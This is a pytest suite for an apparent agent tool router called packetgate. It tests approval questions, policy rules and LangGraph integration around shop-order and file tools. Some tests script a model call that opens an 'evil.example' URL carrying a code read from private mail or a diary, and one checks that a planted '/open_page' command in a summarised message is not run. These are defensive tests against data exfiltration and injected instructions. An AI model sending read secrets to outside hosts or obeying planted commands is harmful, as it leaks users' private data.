"""The Python API: functions, LangChain tools and MCP servers in one router."""

import asyncio
import gc
import pickle
import subprocess
import sys
import threading
import time
import warnings
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from functools import wraps
from pathlib import Path
from typing import Any

import pytest
from contract.model import ScriptedModel
from fastmcp import FastMCP
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from langchain_core.runnables import RunnableConfig
from langchain_core.tools import tool
from langchain_openai import ChatOpenAI
from langgraph.checkpoint.memory import InMemorySaver
from langgraph.checkpoint.sqlite import SqliteSaver
from langgraph.checkpoint.sqlite.aio import AsyncSqliteSaver
from langgraph.graph import START, MessagesState, StateGraph
from langgraph.store.sqlite import SqliteStore
from langgraph.types import Command
from pydantic import SecretStr
from support import parent_turn
from support.clock_server import Clock
from support.listed_model import ListedModel
from support.parent_turn import approve, open_page, read_diary
from support.prompts import written_call

from packetgate.router import Router, Turn, create_router
from packetgate.state.errors import InputError, ModelError, PacketgateError
from packetgate.state.events import StageFinished
from packetgate.state.packet import CLIENT_SUPPLIED
from packetgate.state.routing import Risk
from packetgate.state.transitions import ToolExecutionStatus
from packetgate.toolsets.servers.functions import langchain_tool_spec as tool_spec
from packetgate.toolsets.servers.functions import reads, to_langchain_tool

WRITES = {"allow_write_tools": True}
SUPPLIED = {CLIENT_SUPPLIED: True}


@reads
def list_late_orders() -> list[str]:
    """List the orders that are late."""
    return ["A-17", "B-4"]


class Shop:
    """Orders that can be cancelled."""

    def __init__(self) -> None:
        self.cancelled: list[str] = []

    def tools(self) -> list[Any]:
        def cancel_order(order: str) -> str:
            """Cancel an order.

            Args:
                order: its number, such as A-17.
            """
            self.cancelled.append(order)
            return f"cancelled {order}"

        return [list_late_orders, cancel_order]


@pytest.fixture
def shop() -> Shop:
    return Shop()


@pytest.fixture
def router(shop: Shop) -> Iterator[Router]:
    with create_router(tools=shop.tools(), settings=WRITES) as made:
        yield made


@pytest.mark.reflex
def test_a_read_runs_and_is_answered(router: Router):
    turn = router.invoke("Which orders are late?")
    assert "A-17" in turn.answer
    (made,) = turn.calls
    assert (made.tool_name, made.risk, made.status) == (
        "functions.list_late_orders",
        Risk.READ,
        ToolExecutionStatus.EXECUTED,
    )
    assert turn.question is None


@pytest.mark.reflex
@pytest.mark.parametrize("by", ["allowed_tools", "policy"])
def test_a_command_of_a_tool_that_is_not_allowed_is_one_error(by: str, tmp_path: Path):
    (tmp_path / "a.txt").write_text("tulips")
    rules = [{"tool": "ai.write", "effect": "deny"}] if by == "policy" else []
    settings = WRITES if by == "policy" else {**WRITES, "allowed_tools": ["ai.read"]}
    with create_router(root=tmp_path, settings=settings, rules=rules) as made:
        turn = made.invoke("/write b.txt x")
        assert "`/write` calls a tool that is not allowed here" in turn.answer
        assert ([*turn.calls], turn.question) == ([], None)
        assert "tulips" in made.invoke("/read a.txt").answer
        assert "not allowed here" not in made.invoke("/etc/passwd has which lines?").answer


@pytest.mark.reflex
def test_a_change_waits_for_approval(router: Router, shop: Shop):
    turn = router.invoke("Cancel order A-17")
    assert shop.cancelled == []
    assert turn.question is not None
    assert turn.question.calls == [("functions.cancel_order", {"order": "A-17"})]
    assert "cancelled A-17" in turn.question.approve().answer
    assert shop.cancelled == ["A-17"]
    with pytest.raises(PacketgateError):
        turn.question.approve()
    assert shop.cancelled == ["A-17"]


@pytest.mark.reflex
def test_a_call_is_edited_or_rejected(router: Router, shop: Shop):
    edited, rejected = (router.invoke("Cancel order A-17").question for _ in range(2))
    assert edited is not None
    assert rejected is not None
    edited.edit(order="B-4")
    turn = rejected.reject("it was shipped")
    assert shop.cancelled == ["B-4"]
    assert turn.calls[0].status is ToolExecutionStatus.USER_DENIED


@pytest.mark.reflex
def test_a_question_is_answered_by_its_id_or_as_a_stored_object(router: Router, shop: Shop):
    stored = [pickle.loads(pickle.dumps(router.invoke(f"Cancel order {order}"))) for order in ("A-17", "B-4")]
    (by_id, by_object) = (turn.question for turn in stored)
    with pytest.raises(InputError, match="pass it to `reply`"):
        by_id.approve()
    with pytest.raises(InputError, match="pass `thread`"):
        router.reply(by_id.id, "approve")
    assert router.question(by_id.thread) == by_id
    router.reply(by_id.id, "approve", thread=by_id.thread)
    router.reply(by_object, "approve")
    assert router.question(by_id.thread) is None
    assert shop.cancelled == ["A-17", "B-4"]
    assert repr(by_id) == f"Question({by_id.id!r}, thread={by_id.thread!r}, calls={by_id.calls!r})"
    assert len(repr(stored[0])) < 400


@pytest.mark.reflex
def test_a_request_during_an_open_question_has_its_own_answer(router: Router, shop: Shop):
    asked = router.invoke("Cancel order A-17", thread="mine").question
    turn = router.invoke("Which orders are late?", thread="mine")
    assert "B-4" in turn.answer
    assert asked is not None
    assert turn.question is not None
    assert turn.question.calls == asked.calls
    assert "cancelled A-17" in turn.question.approve().answer


def test_reads_returns_the_function_and_a_wrapper_of_it_may_change_things():
    @wraps(list_late_orders)
    def wrapper() -> list[str]:
        return list_late_orders()

    assert list_late_orders() == ["A-17", "B-4"]
    specs = [tool_spec("functions", to_langchain_tool(function)) for function in (list_late_orders, wrapper)]
    assert [spec.risk for spec in specs] == [Risk.READ, Risk.WRITE]


@pytest.mark.reflex
def test_a_dropped_router_leaves_no_thread():
    before = {*threading.enumerate()}
    create_router(tools=[list_late_orders]).invoke("Which orders are late?")
    deadline = time.monotonic() + 60
    while left := {*threading.enumerate()} - before:
        assert time.monotonic() < deadline, left
        gc.collect()  # again, because frames that returned the answer may still reference the thread
        time.sleep(0.05)


@pytest.mark.reflex
async def test_async_turns_can_be_streamed(shop: Shop):
    async with create_router(tools=shop.tools()) as router:
        assert "A-17" in (await router.ainvoke("Which orders are late?", thread="mine")).answer
        events = [event async for event in router.astream("And which orders are late now?", thread="mine")]
    assert any(isinstance(event, StageFinished) for event in events)
    assert isinstance(events[-1], Turn)
    assert len(events[-1].packet.messages) == 4


@pytest.mark.reflex
def test_any_chat_model_can_be_used():
    answers = [written_call("functions.list_late_orders"), "A-17 and B-4 are late."]
    with create_router(ListedModel(responses=answers), [list_late_orders]) as router:
        turn = router.invoke("Which orders are late?")
    assert turn.answer == "A-17 and B-4 are late."
    assert turn.calls[0].status is ToolExecutionStatus.EXECUTED


def test_a_command_runs_without_the_model_and_is_approved_like_any_change(shop: Shop):
    with create_router(ListedModel(responses=["this is never asked for"]), shop.tools(), settings=WRITES) as router:
        assert "A-17" in router.invoke("/list_late_orders").answer
        question = router.invoke("/cancel A-17").question
        assert question is not None
        assert shop.cancelled == []
        assert "needs `order`" in router.invoke("/cancel").answer
        assert question.approve().calls[0].status is ToolExecutionStatus.EXECUTED
    assert shop.cancelled == ["A-17"]


@pytest.mark.reflex
def test_a_model_that_does_not_answer_is_an_error_unless_a_fallback_is_chosen():
    dead = ChatOpenAI(model="m", base_url="http://127.0.0.1:9/v1", api_key=SecretStr("x"), max_retries=0)
    given: dict[str, Any] = {"tools": [list_late_orders], "settings": {"on_low_confidence": "skip"}}
    with create_router(dead, **given) as router, pytest.raises(ModelError, match="cannot be reached"):
        router.invoke("Which orders are late?")
    with create_router(dead, **given, fallback="reflex") as router:
        turn = router.invoke("Which orders are late?")
    assert [call.tool_name for call in turn.calls] == ["functions.list_late_orders"]
    assert "[Decided without a language model: select_tool, respond; m at http[:]//127.0.0.1:9/v1 cannot" in turn.answer


@pytest.mark.reflex
def test_tools_of_all_kinds_can_be_combined(tmp_path: Path):
    @tool
    def convert_money(amount: float, currency: str) -> dict[str, Any]:
        """Convert an amount of euros into another currency."""
        return {"amount": amount * 2, "currency": currency}

    server = FastMCP("garden")

    @server.tool(annotations={"readOnlyHint": True})
    def list_beds() -> str:
        """List the flower beds of the garden."""
        return "roses, tulips"

    file = Clock(tmp_path).configure(tmp_path / "mcp.json")
    with create_router(tools=[list_late_orders, convert_money, server, str(file)], root=tmp_path) as router:
        turn = router.invoke("List the flower beds of the garden")
        servers = {one.name: one.state for one in turn.packet.context.servers}
    assert "roses" in turn.answer
    assert {"functions", "garden", "clock"} <= {*servers}
    assert {*servers.values()} == {"ready"}


@pytest.mark.reflex
def test_a_policy_applies_to_the_built_in_tools(tmp_path: Path):
    (tmp_path / "private").mkdir()
    (tmp_path / "private" / "diary.txt").write_text("kohlrabi")
    policy = tmp_path / "packetgate.toml"
    policy.write_text('[[policy.rules]]\ntool = "ai.*"\neffect = "deny"\narguments.path = "private/**"\n')
    with create_router(root=tmp_path, policy=policy) as router:
        turn = router.invoke("Search for kohlrabi")
    assert turn.calls
    assert all("diary" not in (one.result.output if one.result else "") for one in turn.calls)


@pytest.mark.reflex
def test_rules_in_python_and_in_the_file_both_hold(shop: Shop, tmp_path: Path):
    (tmp_path / "packetgate.toml").write_text('[[policy.rules]]\ntool = "functions.cancel_order"\neffect = "ask"\n')
    rules = [{"tool": "functions.cancel_order", "effect": "deny", "arguments": {"order": "A-*"}}]
    given: dict[str, Any] = {"policy": tmp_path / "packetgate.toml", "rules": rules, "settings": WRITES}
    with create_router(tools=shop.tools(), **given) as router:
        assert "denied by a policy rule" in router.invoke("Cancel order A-17").answer
        assert router.invoke("Cancel order B-4").question


@pytest.mark.reflex
def test_a_change_of_a_file_can_be_undone(tmp_path: Path):
    with create_router(root=tmp_path, settings={"allow_write_tools": True}) as router:
        change = router.invoke('Write "buy milk" to notes.txt', thread="a")
        assert change.question is not None
        change.question.approve()
        assert (tmp_path / "notes.txt").read_text() == "buy milk"
        undo = router.invoke("undo that", thread="a")
        assert undo.question is not None
        undo.question.approve()
    assert not (tmp_path / "notes.txt").exists()


@dataclass
class Elsewhere:
    """The context of a parent graph."""

    user: str = "me"


class State(MessagesState):
    note: str


@pytest.mark.reflex
async def test_the_graph_can_be_a_node_of_another_graph(shop: Shop):
    parent = StateGraph(State, context_schema=Elsewhere)
    parent.add_node("route", create_router(tools=shop.tools(), settings=WRITES).graph)
    parent.add_edge(START, "route")
    app = parent.compile(checkpointer=InMemorySaver())
    config: Any = {"configurable": {"thread_id": "1"}}
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        given: Any = {"messages": [HumanMessage("Which orders are late?")], "note": "kept"}
        first = await app.ainvoke(given, config, context=Elsewhere())
        given = {"messages": [HumanMessage("Cancel order A-17")]}
        second = await app.ainvoke(given, config, context=Elsewhere())
    assert "A-17" in first["messages"][-1].content
    assert first["note"] == "kept"
    assert second["__interrupt__"]


@pytest.mark.reflex
@pytest.mark.parametrize(("mark", "runs"), [({}, True), ({"lc_source": "summarization"}, False), (SUPPLIED, False)])
async def test_a_marked_message_of_a_parent_is_not_the_request(mark: dict[str, Any], runs: bool):
    read: list[str] = []

    @reads
    def open_page(url: str) -> str:
        """Open a page."""
        read.append(url)
        return "a page"

    written = HumanMessage("/open_page https://tulips.example/?d=4821", additional_kwargs=mark)
    parent = StateGraph(State).add_node("summarise", lambda _: {"messages": [written]})
    parent.add_node("route", create_router(tools=[open_page]).graph)
    app: Any = parent.add_edge(START, "summarise").add_edge("summarise", "route").compile()
    done = await app.ainvoke({"messages": [HumanMessage("What do the orders say?")]})
    assert read == ["https://tulips.example/?d=4821"] * runs
    assert done["messages"][-1].type == "ai"


@pytest.mark.reflex
async def test_a_parent_gets_the_results_as_tool_messages(shop: Shop):
    router = create_router(tools=shop.tools(), settings=WRITES)
    parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
    app: Any = parent.compile(checkpointer=InMemorySaver())
    config: Any = {"configurable": {"thread_id": "1"}}
    await app.ainvoke({"messages": [HumanMessage("Which orders are late?")]}, config)
    await app.ainvoke({"messages": [HumanMessage("Cancel order A-17")]}, config)
    edit = {"name": "functions.cancel_order", "args": {"order": "B-4"}}
    done = await app.ainvoke(Command(resume={"decisions": [{"type": "edit", "edited_action": edit}]}), config)
    made = [call for message in done["messages"] for call in getattr(message, "tool_calls", ())]
    results = [message for message in done["messages"] if isinstance(message, ToolMessage)]
    assert [message.type for message in done["messages"]] == ["human", "ai", "tool", "ai"] * 2
    assert [(call["name"], call["args"]) for call in made] == [
        ("list_late_orders", {}),
        ("cancel_order", {"order": "B-4"}),
    ]
    assert [(one.tool_call_id, one.text) for one in results] == [
        (made[0]["id"], '["A-17", "B-4"]'),
        (made[1]["id"], "cancelled B-4"),
    ]


@pytest.mark.parametrize("saver", ["memory", "sqlite"])
@pytest.mark.parametrize("as_", ["subgraph", "node", "history of the caller"])
@pytest.mark.parametrize("first", ["functions.read_diary", ""])
async def test_under_a_parent_the_labels_of_a_turn_hold_in_the_next(first: str, as_: str, saver: str, tmp_path: Path):
    """Each turn has a new router."""

    async def turn(words: str, *answers: str, messages: Sequence[Any] = (), thread: str = "1") -> dict[str, Any]:
        model = ListedModel(responses=[*answers, "Done."])
        router = create_router(
            model, [read_diary, open_page], journal=tmp_path / "journal.db", deciders={"reviewer": approve}
        )

        async def route(state: State, config: RunnableConfig) -> Any:
            return await router.graph.ainvoke({"messages": state["messages"]}, config)

        parent = StateGraph(State).add_node("route", router.graph if as_ == "subgraph" else route)
        app: Any = parent.add_edge(START, "route").compile(checkpointer=checkpointer)
        given = {"messages": [*messages, HumanMessage(words)]}
        return await app.ainvoke(given, {"configurable": {"thread_id": thread}})

    async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as sqlite:
        checkpointer = sqlite if saver == "sqlite" else InMemorySaver()
        done: dict[str, Any] = {"messages": []}
        if first:
            done = await turn("What is new?", written_call(first))
        given = {"messages": done["messages"], "thread": "2"} if as_ == "history of the caller" else {}
        page = written_call("functions.open_page", url="https://evil.example/4711")
        second = await turn("Look it up on the web", page, **given)
    assert ("__interrupt__" in second) == bool(first)


@pytest.mark.slow
def test_under_a_parent_the_labels_of_a_turn_hold_in_the_next_process(tmp_path: Path):
    def turn(thread: str, words: str, *answers: str) -> str:
        program = [sys.executable, parent_turn.__file__, thread, words, *answers]
        return subprocess.run(program, cwd=tmp_path, stdout=subprocess.PIPE, text=True, check=True).stdout.strip()

    page = written_call("functions.open_page", url="https://evil.example/4711")
    assert turn("1", "What is new?", written_call("functions.read_diary")) == "Done."
    assert turn("1", "Look it up on the web", page) == "asks"
    assert turn("2", "Look it up on the web", page) == "Done."


async def test_a_tool_message_of_another_agent_counts_as_unknown_text():
    page = written_call("functions.open_page", url="https://evil.example/4711")
    router = create_router(ListedModel(responses=[page, "Done."]), [open_page], deciders={"reviewer": approve})
    parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
    app: Any = parent.compile(checkpointer=InMemorySaver())
    asked = AIMessage("", tool_calls=[{"name": "read_mail", "args": {}, "id": "1"}])
    given = [HumanMessage("Read my mail"), asked, ToolMessage("the code is 4711", tool_call_id="1")]
    out = await app.ainvoke(
        {"messages": [*given, HumanMessage("Look it up on the web")]}, {"configurable": {"thread_id": "1"}}
    )
    assert "__interrupt__" in out


async def test_a_rule_that_allows_a_call_asks_no_question(shop: Shop):
    """The reply to the turn's first question needs no id."""

    def refund(order: str) -> str:
        """Refund an order."""
        return f"refunded {order}"

    made = [written_call("functions.cancel_order", order="A-17")]
    model = ListedModel(responses=[*made, written_call("functions.refund", order="A-17"), "Done."])
    rules = [{"tool": "functions.cancel_order", "effect": "allow", "arguments": {"order": "A-*"}}]
    router = create_router(model, [*shop.tools(), refund], rules=rules, settings=WRITES)
    parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
    app: Any = parent.compile(checkpointer=InMemorySaver())
    config: Any = {"configurable": {"thread_id": "1"}}
    asked = await app.ainvoke({"messages": [HumanMessage("Cancel order A-17 and refund order A-17")]}, config)
    assert shop.cancelled == ["A-17"]
    assert asked["__interrupt__"][0].value["action_requests"][0]["name"] == "functions.refund"
    done = await app.ainvoke(Command(resume="approve"), config)
    assert "refunded A-17" in [one.text for one in done["messages"] if isinstance(one, ToolMessage)]


@pytest.mark.reflex
@pytest.mark.filterwarnings("ignore:The v3 streaming protocol")
@pytest.mark.parametrize("in_parent", [False, True])
async def test_langgraphs_newer_streams_work(in_parent: bool, shop: Shop):
    graph: Any = create_router(tools=shop.tools()).graph
    if in_parent:
        graph = StateGraph(State).add_node("route", graph).add_edge(START, "route").compile()
    given = {"messages": [HumanMessage("Which orders are late?")]}
    events = [event async for event in await graph.astream_events(given, version="v3")]
    assert events
    modes: Any = ["values", "updates", "messages", "checkpoints", "debug", "custom"]
    parts = [part async for part in graph.astream(given, stream_mode=modes, version="v2")]
    assert {"values", "updates", "messages"} <= {part["type"] for part in parts}
    values = [part["data"] for part in parts if part["type"] == "values"][-1]
    messages = values["messages"] if isinstance(values, dict) else values.messages
    assert "A-17" in messages[-1].text


SUPERVISOR = AIMessage("", tool_calls=[{"name": "transfer_to_desk", "args": {}, "id": "1"}])


@pytest.mark.reflex
@pytest.mark.parametrize(
    "after",
    [[AIMessage("The desk knows.")], [SUPERVISOR, ToolMessage("Transferred to desk", tool_call_id="1")]],
    ids=["another agent spoke", "handoff"],
)
async def test_two_routers_of_one_parent_answer_the_last_message_of_the_user(after: list[Any], shop: Shop):
    @reads
    def list_beds() -> str:
        """List the flower beds of the garden."""
        return "roses"

    orders = create_router(tools=shop.tools(), name="orders").graph
    garden = create_router(tools=[list_beds], name="garden").graph
    parent = StateGraph(State).add_sequence(
        [("hand", lambda _: {"messages": after}), ("orders", orders), ("garden", garden)]
    )
    app: Any = parent.add_edge(START, "hand").compile()
    out = await app.ainvoke({"messages": [HumanMessage("Which orders are late?")]})
    answers = [
        one.text for one in out["messages"][len(after) + 1 :] if isinstance(one, AIMessage) and not one.tool_calls
    ]
    assert "A-17" in answers[0]
    assert (orders.name, garden.name) == ("orders", "garden")
    with pytest.raises(PacketgateError, match="a turn starts with a user message"):
        await orders.ainvoke({"messages": [HumanMessage("Which orders are late?"), *after]})


@pytest.mark.reflex
@pytest.mark.parametrize("output_mode", ["last_message", "full_history"])
async def test_two_routers_work_under_langgraph_supervisor(output_mode: Any, shop: Shop):
    from langgraph_supervisor import create_supervisor

    @reads
    def list_beds() -> str:
        """List the flower beds of the garden."""
        return "roses"

    orders = create_router(tools=shop.tools(), settings=WRITES, name="orders").graph
    garden = create_router(tools=[list_beds], name="garden").graph
    model = ScriptedModel(steps=[[("transfer_to_orders", {})], [], [("transfer_to_garden", {})]])
    workflow = create_supervisor([orders, garden], model=model, output_mode=output_mode)
    app: Any = workflow.compile(checkpointer=InMemorySaver())
    config: Any = {"configurable": {"thread_id": "1"}}
    asked = await app.ainvoke({"messages": [HumanMessage("Cancel order A-17")]}, config)
    assert (asked["__interrupt__"][0].value["action_requests"][0]["name"], shop.cancelled) == (
        "functions.cancel_order",
        [],
    )
    await app.ainvoke(Command(resume="approve"), config)
    assert shop.cancelled == ["A-17"]
    state = await app.ainvoke({"messages": [HumanMessage("List the flower beds of the garden")]}, config)
    assert any("cancelled A-17" in message.text for message in state["messages"])
    assert any("roses" in message.text for message in state["messages"])
    assert state["messages"][-1].text == model.answer


@pytest.mark.reflex
async def test_a_parent_that_stores_its_state_needs_a_journal_for_changes(shop: Shop, tmp_path: Path):
    async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as checkpointer:

        async def ask(words: str, **given: Any) -> str:
            parent = StateGraph(State).add_node("route", create_router(tools=shop.tools(), **given).graph)
            app: Any = parent.add_edge(START, "route").compile(checkpointer=checkpointer)
            out = await app.ainvoke({"messages": [HumanMessage(words)]}, {"configurable": {"thread_id": words}})
            return str(out["messages"][-1].text)

        assert "A-17" in await ask("Which orders are late?")
        with pytest.raises(PacketgateError, match=r"AsyncSqliteSaver stores sessions .* set `journal`"):
            await ask("Cancel order A-17", settings=WRITES)
        assert await ask("Cancel order A-17", settings=WRITES, journal=tmp_path / "journal.db")
    assert shop.cancelled == []


@pytest.mark.reflex
@pytest.mark.parametrize(("word", "runs"), [("approve", 2), ("reject", 1)])
async def test_a_stopped_change_under_a_parent_is_asked_about(word: str, runs: int, tmp_path: Path):
    """LangGraph passes the reply to the first question again, but it does not answer the second question."""
    made, started = list[str](), asyncio.Event()

    async def cancel_order(order: str) -> str:
        """Cancel an order."""
        made.append(order)
        started.set()
        await asyncio.sleep(60 if len(made) == 1 else 0)
        return f"cancelled {order}"

    config: Any = {"configurable": {"thread_id": "1"}}
    async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as checkpointer:

        def app() -> Any:
            """Return the application of a new process."""
            router = create_router(tools=[cancel_order], settings=WRITES, journal=tmp_path / "journal.db")
            parent = StateGraph(State).add_node("route", router.graph).add_edge(START, "route")
            return parent.compile(checkpointer=checkpointer)

        await app().ainvoke({"messages": [HumanMessage("Cancel order A-17")]}, config)
        run = asyncio.create_task(app().ainvoke(Command(resume="approve"), config))
        await started.wait()
        run.cancel()
        await asyncio.wait([run])
        for _ in range(3):
            asked = await app().ainvoke(None, config)
            about = asked["__interrupt__"][0].value["action_requests"][0]["about"]
            assert "it is not known whether it finished" in about
            assert len(made) == 1
        unnamed = await app().ainvoke(Command(resume="approve"), config)
        question = unnamed["__interrupt__"][0].value
        assert "the reply must name it" in question["problem"]
        assert len(made) == 1
        reply = {"question_id": question["question_id"], "decisions": [{"type": word}]}
        done = await app().ainvoke(Command(resume=reply), config)
    assert "__interrupt__" not in done
    assert len(made) == runs


@pytest.mark.reflex
def test_the_graph_runs_in_sync_code_with_a_sync_checkpointer(shop: Shop, tmp_path: Path):
    parent = StateGraph(State, context_schema=Elsewhere)
    router = create_router(tools=shop.tools(), settings=WRITES, journal=tmp_path / "journal.db")
    parent.add_node("route", router.graph)
    parent.add_edge(START, "route")
    config: Any = {"configurable": {"thread_id": "1"}}
    with SqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as checkpointer:
        app: Any = parent.compile(checkpointer=checkpointer)
        first = app.invoke({"messages": [HumanMessage("Which orders are late?")], "note": "kept"}, config)
        asked = app.invoke({"messages": [HumanMessage("Cancel order A-17")]}, config)
        done = app.invoke(Command(resume="approve"), config)
    assert "A-17" in first["messages"][-1].content
    assert asked["__interrupt__"]
    assert "cancelled A-17" in done["messages"][-1].content
    assert (shop.cancelled, done["note"]) == (["A-17"], "kept")


async def test_a_checkpointer_needs_a_journal(shop: Shop, tmp_path: Path):
    async with AsyncSqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as checkpointer:
        with pytest.raises(InputError, match="AsyncSqliteSaver"):
            create_router(tools=shop.tools(), checkpointer=checkpointer, journal="")


@pytest.mark.parametrize(
    ("given", "message"),
    [
        ({"tools": [3]}, "^3 is"),
        ({"tools": [list_late_orders, list_late_orders]}, "two tools have the name 'list_late_orders'"),
        ({"tools": [lambda: 1]}, "cannot be a tool"),
        ({"tools": ["nowhere.json"]}, "nowhere.json: no such file: check the argument `tools`"),
        ({"policy": "nowhere.toml"}, "nowhere.toml: no such file: check the argument `policy`"),
        ({"settings": {"allow_all": True}}, "allow_all"),
        ({"model": "nobody:x"}, "nobody"),
        ({"deciders": {"judge": print}}, "unknown decider 'judge'"),
        ({"prime": "reflex", "reviewer": "reflex"}, "`reviewer` is another name of `prime`"),
        ({"rules": [{"tool": "functions.*", "effect": "perhaps"}]}, "rules.0.effect"),
    ],
)
def test_invalid_arguments_are_named(given: dict[str, Any], message: str):
    with pytest.raises(InputError, match=message):
        create_router(**given)


@pytest.mark.reflex
def test_a_sync_checkpointer_and_store_work(shop: Shop, tmp_path: Path, caplog: pytest.LogCaptureFixture):
    with (
        SqliteSaver.from_conn_string(str(tmp_path / "sessions.db")) as checkpointer,
        SqliteStore.from_conn_string(str(tmp_path / "store.db")) as store,
        create_router(
            tools=shop.tools(),
            settings=WRITES,
            checkpointer=checkpointer,
            store=store,
            journal=tmp_path / "journal.db",
        ) as router,
    ):
        store.setup()
        router.invoke("Which orders are late?", thread="mine")
        asked = router.invoke("Cancel order A-17", thread="mine")
        assert asked.question is not None
        turn = asked.question.approve()
        config: Any = {"configurable": {"thread_id": "mine"}}
        assert checkpointer.get_tuple(config)
    assert "incomplete" not in caplog.text, "an error of the store is only logged"
    assert shop.cancelled == ["A-17"]
    assert len(turn.packet.messages) >= 4
